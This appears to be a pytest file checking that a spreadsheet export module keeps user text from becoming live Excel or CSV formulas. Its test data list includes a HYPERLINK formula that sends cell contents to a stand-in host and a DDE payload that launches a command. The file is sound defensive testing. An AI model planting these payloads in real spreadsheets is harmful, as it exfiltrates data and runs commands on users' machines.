"""Formula injection: no Excel or CSV cell of user text is ever live (issue 14, item 3)."""

from __future__ import annotations

import csv
import io

import openpyxl
import polars as pl
import pytest

from ils.xlsx import inert, to_csv, to_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "=cmd|' /C calc'!A0", "+1", "-2",
           "@SUM(A1)", "\t=1+1", "\r=1+1", "{=SUM(A1:A2)}", "http://evil.example/"]


def hostile_frame() -> pl.DataFrame:
    n = len(HOSTILE)
    return pl.DataFrame({"Mål": HOSTILE, "Värde": [float(i) - 3.5 for i in range(n)],
                         "Antal": list(range(-4, n - 4)),
                         "=Rubrik": ["vanlig text"] * n})


def test_workbook_has_no_formula_and_keeps_numbers():
    data = to_xlsx(hostile_frame(), "=Titel", '=HYPERLINK("x")', [("+Filter", "-1")],
                   {"Värde": "decimal"})
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert cells
    for cell in cells:
        assert cell.data_type in ("s", "n"), (cell.coordinate, cell.value, cell.data_type)
        assert cell.hyperlink is None
    texts = {c.value for c in cells if c.data_type == "s"}
    # the text itself is kept, as text (xlsxwriter escapes a CR as _x000D_, openpyxl keeps it)
    assert set(HOSTILE) <= {t.replace("_x000D_", "\r") for t in texts}
    assert {"=Titel", "+Filter:", "-1", "=Rubrik"} <= texts
    header = next(r for r in ws.iter_rows() if r[0].value == "Mål")
    col = {c.value: c.column for c in header}
    numbers = [ws.cell(row=header[0].row + 1 + i, column=col["Värde"]).value
               for i in range(len(HOSTILE))]
    assert numbers == [float(i) - 3.5 for i in range(len(HOSTILE))]
    counts = [ws.cell(row=header[0].row + 1 + i, column=col["Antal"]) for i in range(3)]
    assert [(c.value, c.data_type) for c in counts] == [(-4, "n"), (-3, "n"), (-2, "n")]


def test_csv_text_is_inert_and_numbers_stay_numbers():
    text = to_csv(hostile_frame()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[0] == ["Mål", "Värde", "Antal", "'=Rubrik"]
    for row, original in zip(rows[1:], HOSTILE, strict=True):
        assert row[0] == inert(original)
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert [r[1] for r in rows[1:3]] == ["-3,5", "-2,5"]  # numbers: no apostrophe
    assert [r[2] for r in rows[1:3]] == ["-4", "-3"]


@pytest.mark.parametrize("value, expected", [("=1", "'=1"), ("+1", "'+1"), ("-", "'-"),
                                             ("@a", "'@a"), ("\t1", "'\t1"), ("a=1", "a=1"),
                                             ("", ""), ("– 2", "– 2")])
def test_inert(value, expected):
    assert inert(value) == expected


def test_csv_categorical_column_is_inert_too():
    frame = pl.DataFrame({"Status": ["=1+1", "ok"]}).with_columns(pl.col("Status")
                                                                     .cast(pl.Categorical))
    assert to_csv(frame).decode("utf-8-sig").splitlines()[1] == "'=1+1"
